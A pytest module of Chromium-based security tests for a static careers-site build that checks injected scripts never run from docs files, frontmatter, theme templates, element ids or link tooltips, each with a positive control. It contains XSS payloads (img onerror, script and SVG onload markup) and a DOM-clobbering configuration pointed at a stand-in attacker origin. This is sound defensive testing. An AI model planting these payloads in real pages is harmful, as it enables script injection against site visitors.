"""The docs_dir, frontmatter and theme-namespace attacks of issues 29 and 30 in real Chromium: nothing runs.

Every case has a positive control that shows the dialog handler catching the same attack where it is let through
(a file the site allows by name, a site that opts out with `allow_raw_html: true`, or the attacked page as the
build used to write it), so a silent handler cannot make a test pass.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from browser_support import DESKTOP, new_page, served
from cli_helpers import edit
from conftest import run_build
from html_attacks import script_runs
from untrusted_surface import (
    RUN,
    add_file,
    free_page,
    read_config,
    set_careers_options,
    surface_project,
    within_budget,  # noqa: F401  (the fixture every test here uses)
    write_config,
)

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("within_budget")]
ROLE = "roles/data-lead.md"
EVIL = "https://evil.example"
SCRIPT_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>\n'


def built(project: Path, *, expect_ok: bool = True):
    result = run_build(project, strict=False)
    assert (result.returncode == 0) == expect_ok, result.output
    assert "Traceback" not in result.output
    return result


def dialogs(browser, url: str, path: str) -> list[str]:
    return script_runs(browser, url, path)


@pytest.fixture
def project(tmp_path) -> Path:
    return surface_project(tmp_path / "project")


# --- active files and generated outputs ------------------------------------------------------------------------
@pytest.mark.parametrize(("path", "content"), [
    ("login.html", f"<!doctype html><title>Log in</title><script>{RUN}</script>"),
    ("assets/x.svg", SCRIPT_SVG)], ids=["html", "svg"])
def test_an_active_file_from_docs_dir_never_runs(browser, project, path, content):
    previous = built(project)
    add_file(project, path, content)
    refused = run_build(project)
    assert refused.returncode != 0 and f"content/{path}:" in refused.output
    with served(previous.site) as url:  # what the host still serves: the last good build
        assert not (previous.site / path).exists()
        for page in ("", "roles/data-lead/", path):
            assert dialogs(browser, url, page) == [], page
    # Positive control: allowed by name, the file is published and its script runs in the same harness.
    set_careers_options(project, allow_active_files=[path])
    allowed = built(project)
    with served(allowed.site) as url:
        assert any(run.startswith("dialog") for run in dialogs(browser, url, path))


def test_a_docs_dir_file_cannot_replace_the_themes_script(browser, project):
    previous = built(project)
    [bundle] = (previous.site / "assets" / "javascripts").glob("bundle.*.min.js")
    relative = bundle.relative_to(previous.site).as_posix()
    add_file(project, relative, RUN)
    set_careers_options(project, allow_active_files=["assets/javascripts/*"])  # even allowed: the theme's file
    refused = run_build(project)
    assert refused.returncode != 0 and f"content/{relative}:1: would replace a file of the theme" in refused.output
    with served(previous.site) as url:
        assert dialogs(browser, url, "") == []
    # Positive control: the site as the build used to publish it, with the editor's file in the theme's place.
    attacked = previous.site.parent / "attacked-site"
    shutil.copytree(previous.site, attacked)
    (attacked / relative).write_text(RUN, encoding="utf-8")
    with served(attacked) as url:
        assert any(run.startswith("dialog") for run in dialogs(browser, url, ""))


# --- free pages' frontmatter -----------------------------------------------------------------------------------------
MARKUP = f'"><img src=x onerror="{RUN}"><script>{RUN}</script>'


def test_frontmatter_text_with_markup_is_inert_on_every_page(browser, project):
    free_page(project, "page.md", {"title": MARKUP, "description": MARKUP, "author": MARKUP, "subtitle": MARKUP},
              f"# {MARKUP}\n\nText.\n")
    free_page(project, "heading.md", None, "# &lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;\n\nText.\n")
    config = read_config(project)
    config["nav"] = ["index.md", "page.md", "heading.md"]
    write_config(project, config)
    result = built(project)
    with served(result.site) as url:
        for page in ("", "page/", "heading/", "roles/data-lead/", "roles/"):
            assert dialogs(browser, url, page) == [], page
        search = new_page(browser, url, DESKTOP)  # the search results show titles as HTML
        try:
            seen: list[str] = []
            search.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
            search.goto(url + "page/", wait_until="load")
            search.keyboard.press("/")
            search.keyboard.type("onerror")
            search.wait_for_timeout(500)
            assert seen == []
        finally:
            search.context.close()
    # Positive control: the page as Material prints an unescaped title, which the handler catches.
    attacked = result.site.parent / "attacked-site"
    shutil.copytree(result.site, attacked)
    page = attacked / "page" / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</header>", f"</header>{MARKUP}", 1),
                    encoding="utf-8")
    with served(attacked) as url:
        assert any(run.startswith("dialog") for run in dialogs(browser, url, "page/"))


@pytest.mark.parametrize("frontmatter", [
    {"status": f'new"><img src=x onerror="{RUN}"><span class="'},
    {"template": "redirect.html", "location": '"+alert(1)+"'},
    {"icon": f'"><img src=x onerror="{RUN}">'},
], ids=["status", "redirect", "icon"])
def test_theme_level_frontmatter_never_reaches_a_template(browser, project, frontmatter):
    previous = built(project)
    free_page(project, "page.md", frontmatter)
    config = read_config(project)
    config["nav"] = ["index.md", "page.md"]
    write_config(project, config)
    refused = run_build(project)
    assert refused.returncode != 0 and "content/page.md:2:" in refused.output
    set_careers_options(project, allow_page_templates=["redirect.html"])
    assert run_build(project).returncode != 0  # allowing the template does not allow that location
    with served(previous.site) as url:
        assert dialogs(browser, url, "") == []


# --- ids and classes --------------------------------------------------------------------------------------------
def _clobbering_config(site: Path) -> str:
    """Material's own configuration of the built page, pointed at the attacker's origin with version
    selection on: what a `{: #__config }` paragraph would hand Material."""
    html = (site / "roles" / "data-lead" / "index.html").read_text(encoding="utf-8")
    config = json.loads(re.search(r'<script id="__config" type="application/json">(.*?)</script>', html).group(1))
    config.update(base=f"{EVIL}/site/", version={"provider": "mike"})
    return json.dumps(config)


def _versions(route) -> None:
    route.fulfill(status=200, content_type="application/json", headers={"Access-Control-Allow-Origin": "*"},
                  body=json.dumps([{"version": "1.0", "title": f'<img src=x onerror="{RUN}">', "aliases": []}]))


def _zero_click(browser, url: str) -> tuple[list[str], str]:
    page = new_page(browser, url, DESKTOP)
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.context.route(f"{EVIL}/**", _versions)
    try:
        page.goto(url + "roles/data-lead/", wait_until="load")
        page.wait_for_timeout(500)
        found = page.evaluate("() => document.querySelector('#__config').tagName")
    finally:
        page.context.close()
    return seen, found


def test_a_body_cannot_replace_materials_configuration(browser, project):
    clean = built(project)
    body = f"The role.\n\n{_clobbering_config(clean.site)}\n{{: #__config }}\n"
    edit(project / ROLE, body=body)
    result = built(project)
    with served(result.site) as url:
        assert _zero_click(browser, url) == ([], "SCRIPT")
    # Positive control: a trusted site without the HTML policy is clobbered, and the handler sees the alert.
    set_careers_options(project, allow_raw_html=True)
    trusted = built(project)
    with served(trusted.site) as url:
        seen, found = _zero_click(browser, url)
        assert found == "P" and seen, seen


def _hover_runs(browser, url: str) -> list[str]:
    page = new_page(browser, url, DESKTOP)
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    try:
        page.goto(url + "roles/data-lead/", wait_until="load")
        page.hover("article a[href='https://www.example.com/team']")
        page.wait_for_timeout(500)
        page.focus("article a[href='https://www.example.com/team']")
        page.wait_for_timeout(300)
    finally:
        page.context.close()
    return seen


def test_a_link_title_is_never_html_in_materials_tooltips(browser, project):
    config = read_config(project)
    config["theme"]["features"] = ["content.tooltips"]
    write_config(project, config)
    edit(project / ROLE, body=f'Meet [the team](https://www.example.com/team "<img src=x onerror=\'{RUN}\'>").\n')
    result = built(project)
    with served(result.site) as url:
        assert _hover_runs(browser, url) == []
    set_careers_options(project, allow_raw_html=True)  # positive control: the title kept, the tooltip runs it
    trusted = built(project)
    with served(trusted.site) as url:
        assert _hover_runs(browser, url)


def test_a_theme_class_cannot_hide_text_on_the_page(browser, project):
    edit(project / ROLE, body="Visible.\n\nCloaked keyword stuffing for the feeds\n{: .md-dialog .md-typeset }\n")
    result = built(project)
    with served(result.site) as url:
        page = new_page(browser, url, DESKTOP)
        try:
            page.goto(url + "roles/data-lead/", wait_until="load")
            assert page.is_visible("text=Cloaked keyword stuffing for the feeds")
        finally:
            page.context.close()
